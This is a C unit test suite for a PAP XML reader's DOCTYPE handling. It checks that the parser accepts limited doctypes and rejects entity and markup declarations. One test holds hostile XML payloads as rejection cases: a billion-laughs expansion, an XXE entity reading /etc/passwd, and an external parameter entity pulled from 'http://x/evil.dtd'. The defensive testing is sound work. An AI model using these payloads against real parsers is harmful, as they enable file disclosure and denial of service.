/* test_pap_xml.c - the XML reader's DOCTYPE, as PAP documents carry it:
 * accepted only when the limits allow it and only with identifiers and an
 * internal subset of processing instructions and comments; every entity or
 * other declaration refused. */
#include <string.h>

#include "check_main.h"
#include "guard.h"
#include "push_xml.h"

/* Reads doc to its end; 0 or the error, *d the DOCTYPE seen. */
static int read_doc(const char *doc, bool allow, push_xml_doctype *d, sp_error *e)
{
    push_xml_limits lim = {PUSH_XML_DEFAULT_MAX_SIZE, PUSH_XML_DEFAULT_MAX_DEPTH, PUSH_XML_DEFAULT_MAX_ATTRS, allow};
    const char *g = guard_str(doc);
    push_xml x;
    push_xml_init(&x, g, strlen(doc), &lim);
    push_xml_token t;
    do {
        int rc = push_xml_next(&x, &t, e);
        if (rc)
            return rc;
    } while (t.kind != PUSH_XML_END);
    if (d)
        *d = x.doctype;
    return 0;
}

static void expect_refused(const char *doc, const char *why)
{
    sp_error e = {0};
    ck_assert_int_eq(read_doc(doc, true, NULL, &e), SP_EINVAL);
    ck_assert_msg(strstr(e.reason, why), "%s: reason '%s'", doc, e.reason);
}

#define PAP20 "<!DOCTYPE pap PUBLIC \"-//WAPFORUM//DTD PAP 2.0//EN\" \"http://www.wapforum.org/DTD/pap_2.0.dtd\""

START_TEST(doctype_refused_without_the_flag)
{
    sp_error e;
    ck_assert_int_eq(read_doc(PAP20 "><pap/>", false, NULL, &e), SP_EINVAL);
    ck_assert_ptr_nonnull(strstr(e.reason, "DOCTYPE"));
}
END_TEST

START_TEST(doctype_public_and_system)
{
    push_xml_doctype d;
    sp_error e;
    ck_assert_int_eq(read_doc("<?xml version=\"1.0\"?>\n" PAP20 ">\n<pap/>", true, &d, &e), 0);
    ck_assert(d.present);
    ck_assert(sp_str_eq(d.name, SP_LIT("pap")));
    ck_assert(sp_str_eq(d.public_id, SP_LIT("-//WAPFORUM//DTD PAP 2.0//EN")));
    ck_assert(sp_str_eq(d.system_id, SP_LIT("http://www.wapforum.org/DTD/pap_2.0.dtd")));
    ck_assert_ptr_null(d.subset.p);
}
END_TEST

START_TEST(doctype_subset_of_pi_and_comments)
{
    push_xml_doctype d;
    sp_error e;
    ck_assert_int_eq(read_doc(PAP20 " [<?wap-pap-ver supported-versions=\"2.0,1.*\"?>]><pap/>", true, &d, &e), 0);
    ck_assert(sp_str_eq(d.subset, SP_LIT("<?wap-pap-ver supported-versions=\"2.0,1.*\"?>")));
    ck_assert_int_eq(read_doc(PAP20 "\n[ <!-- a ] comment --> <?a b?>\n ] ><pap/>", true, &d, &e), 0);
    ck_assert_int_eq(read_doc("<!DOCTYPE pap SYSTEM 'pap_1.0.dtd'><pap/>", true, &d, &e), 0);
    ck_assert_ptr_null(d.public_id.p);
    ck_assert(sp_str_eq(d.system_id, SP_LIT("pap_1.0.dtd")));
    ck_assert_int_eq(read_doc("<!DOCTYPE pap><pap/>", true, &d, &e), 0);
    ck_assert(d.present && !d.system_id.p);
}
END_TEST

START_TEST(doctype_entities_refused)
{
    expect_refused(PAP20 " [<!ENTITY a \"x\">]><pap>&a;</pap>", "entity declarations");
    /* The billion laughs: refused at its first declaration. */
    expect_refused("<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
                   "entity declarations");
    expect_refused("<!DOCTYPE pap [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><pap>&xxe;</pap>",
                   "entity declarations");
    expect_refused("<!DOCTYPE pap [<!ENTITY % p SYSTEM \"http://x/evil.dtd\"> %p;]><pap/>", "entity declarations");
    expect_refused("<!DOCTYPE pap [%p;]><pap/>", "parameter entity");
    expect_refused("<!DOCTYPE pap [<!ELEMENT pap ANY>]><pap/>", "markup declarations");
    expect_refused("<!DOCTYPE pap [<!ATTLIST pap a CDATA \"x\">]><pap/>", "markup declarations");
    expect_refused("<!DOCTYPE pap [junk]><pap/>", "only comments");
    /* An undeclared reference stays an error of the decoder, never expanded. */
    char out[16];
    ck_assert_uint_eq(push_xml_decode(SP_LIT("&lol;"), out, sizeof out), (size_t)-1);
}
END_TEST

START_TEST(doctype_malformed)
{
    expect_refused("<pap/>" PAP20 ">", "after the root");
    expect_refused(PAP20 ">" PAP20 "><pap/>", "second DOCTYPE");
    expect_refused("<!DOCTYPEpap><pap/>", "white space");
    expect_refused("<!DOCTYPE ><pap/>", "name expected");
    expect_refused("<!DOCTYPE pap PUBLIC><pap/>", "white space");
    expect_refused("<!DOCTYPE pap PUBLIC x><pap/>", "public identifier");
    expect_refused("<!DOCTYPE pap PUBLIC \"a{b\" \"s\"><pap/>", "public identifier");
    expect_refused("<!DOCTYPE pap PUBLIC \"a\"\"s\"><pap/>", "white space");
    expect_refused("<!DOCTYPE pap PUBLIC \"a\" s><pap/>", "system identifier");
    expect_refused("<!DOCTYPE pap SYSTEM \"s><pap/>", "system identifier");
    expect_refused("<!DOCTYPE pap [<?pi?>", "unterminated internal subset");
    expect_refused("<!DOCTYPE pap [<!-- x", "unterminated");
    expect_refused("<!DOCTYPE pap x><pap/>", "'>' expected");
    expect_refused("<!DOCTYPE pap", "'>' expected");
}
END_TEST

/* Every prefix of a valid document with a DOCTYPE fails cleanly (guarded:
 * no read past the end). */
START_TEST(doctype_every_cut)
{
    const char *doc = PAP20 " [<?wap-pap-ver supported-versions=\"2.0,1.*\"?><!--c-->]><pap/>";
    size_t n = strlen(doc);
    push_xml_limits lim = {PUSH_XML_DEFAULT_MAX_SIZE, 4, 4, true};
    for (size_t cut = 0; cut < n; cut++) {
        const char *g = guard_copy(doc, cut);
        push_xml x;
        push_xml_init(&x, g, cut, &lim);
        push_xml_token t;
        sp_error e;
        int rc;
        do
            rc = push_xml_next(&x, &t, &e);
        while (rc == 0 && t.kind != PUSH_XML_END);
        ck_assert_msg(rc == SP_EINVAL, "cut %zu accepted", cut);
    }
}
END_TEST

static Suite *pap_xml_suite(void)
{
    Suite *s = suite_create("pap_xml");
    TCase *tc = tcase_create("doctype");
    tcase_add_test(tc, doctype_refused_without_the_flag);
    tcase_add_test(tc, doctype_public_and_system);
    tcase_add_test(tc, doctype_subset_of_pi_and_comments);
    tcase_add_test(tc, doctype_entities_refused);
    tcase_add_test(tc, doctype_malformed);
    tcase_add_test(tc, doctype_every_cut);
    suite_add_tcase(s, tc);
    return s;
}

CHECK_MAIN(pap_xml_suite)
